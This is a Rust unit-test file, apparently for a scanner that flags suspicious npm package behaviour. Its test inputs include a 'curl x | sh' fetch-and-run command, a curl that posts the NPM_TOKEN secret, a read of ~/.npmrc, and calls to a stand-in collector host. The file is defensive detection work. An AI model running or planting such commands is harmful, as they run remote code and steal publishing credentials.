use std::rc::Rc;

use super::*;
use crate::facts::Span;

fn text(text: &str) -> Value {
    Value::String(Rc::from(text))
}

fn path_of(text: &str) -> Value {
    Value::Path(Rc::from(text))
}

fn call(callee: &str, args: Vec<Value>) -> Call {
    Call {
        callee: Rc::from(callee),
        uses: uses(callee),
        new: false,
        args,
        span: Span::default(),
        function: 0,
        decoded: false,
    }
}

#[test]
fn callees_of_the_network() {
    for callee in [
        "fetch",
        "https.request",
        "http.get",
        "axios",
        "axios.post",
        "axios.create().post",
        "axios.default.post",
        "got.default",
        "XMLHttpRequest().open",
        "follow-redirects.https.request",
        "undici.Pool().request",
    ] {
        assert_eq!(network(callee), Some(Network::Request), "{callee}");
    }
    assert_eq!(network("net.Socket().connect"), Some(Network::Socket));
    assert_eq!(network("dns.promises.resolveTxt"), Some(Network::Dns));
    for callee in [
        "http.createServer",
        "https",
        "axios.interceptors.request.use",
        "dns.setServers",
        "httpx.get",
        "$",
        "$.each",
        "request.defaults",
    ] {
        assert_eq!(network(callee), None, "{callee}");
    }
}

#[test]
fn hosts_of_calls() {
    let name = |call: Call, kind| host(&call, kind).map(|host| host.name);
    let url = text("https://collector.invalid/x");
    assert_eq!(
        name(call("fetch", vec![url.clone()]), Network::Request).as_deref(),
        Some("collector.invalid")
    );
    assert_eq!(
        name(
            call("XMLHttpRequest().open", vec![text("POST"), url]),
            Network::Request
        )
        .as_deref(),
        Some("collector.invalid")
    );
    assert_eq!(
        name(
            call(
                "net.connect",
                vec![Value::Number(9.0), text("collector.invalid")]
            ),
            Network::Socket
        )
        .as_deref(),
        Some("collector.invalid")
    );
    assert_eq!(
        name(call("fetch", vec![text("./data.json")]), Network::Request),
        None
    );
}

#[test]
fn command_lines() {
    let line = |call: Call| command_line(&call);
    let args = Value::Array(Rc::from([text("-c"), text("curl x | sh")]));
    assert_eq!(
        line(call("child_process.spawn", vec![text("sh"), args])).as_deref(),
        Some("sh -c 'curl x | sh'")
    );
    let joined = Value::Concat(Rc::from([
        text("curl -d "),
        path_of("process.env.NPM_TOKEN"),
        text(" "),
        Value::Unknown,
    ]));
    assert_eq!(
        line(call("child_process.execSync", vec![joined])).as_deref(),
        Some("curl -d $NPM_TOKEN *")
    );
    assert_eq!(line(call("fs.readFile", vec![text("a")])), None);
}

#[test]
fn paths_of_files() {
    let value = Value::Concat(Rc::from([path_of("os.homedir()"), text("/.npmrc")]));
    assert_eq!(path(&value).as_deref(), Some("~/.npmrc"));
    assert!(reads_file("fs.promises.readFile") && !reads_file("fs.writeFile"));
}
